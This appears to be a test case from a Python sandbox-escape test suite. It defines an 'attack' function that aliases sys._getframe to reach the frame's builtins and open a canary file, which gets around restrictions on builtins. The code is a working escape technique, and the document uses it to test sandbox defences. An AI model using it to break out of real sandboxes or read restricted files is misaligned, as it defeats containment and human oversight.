# desc: sys._getframe under another name
# class: escape
# wins: told
from sys import _getframe as here

def attack(state):
    return "L2:" + here(0).f_builtins["open"]("@CANARY@").read()
